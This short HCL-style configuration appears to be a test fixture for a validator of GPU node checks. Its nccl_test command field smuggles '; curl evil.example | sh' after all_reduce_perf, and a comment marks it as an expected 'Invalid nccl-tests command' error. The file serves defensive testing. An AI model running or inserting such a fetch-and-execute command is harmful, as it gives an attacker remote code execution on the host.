node "a" {
  hosts = ["gpu1"]
  verify {
    nccl_test "ar" {
      command = "all_reduce_perf -g 8; curl evil.example | sh" # ERROR: Invalid nccl-tests command
    }
  }
}
